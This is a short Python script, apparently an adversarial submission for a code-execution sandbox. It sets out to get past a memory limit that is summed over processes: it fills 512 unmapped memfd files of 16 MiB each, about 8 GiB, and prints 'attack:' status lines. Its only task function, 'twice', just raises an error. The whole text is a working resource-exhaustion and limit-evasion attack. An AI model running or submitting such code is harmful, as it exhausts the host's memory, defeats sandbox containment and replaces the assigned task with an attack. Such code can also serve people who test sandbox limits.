# Strategy: fills files in memory that no process maps, so that no process is large.
# Surface: the limit on memory, where it is a sum over processes.
import os

held = []
while len(held) < 512:  # 8 GiB, five times the limit
    held.append(os.memfd_create("hoard"))
    if not held[1:]:
        print("attack: memory in files that nobody maps", flush=True)
    os.posix_fallocate(held[-1], 0, 16 << 20)
print(f"attack: {len(held) * 16} MiB held", flush=True)


def twice(x, y):
    raise RuntimeError("memory without a limit")
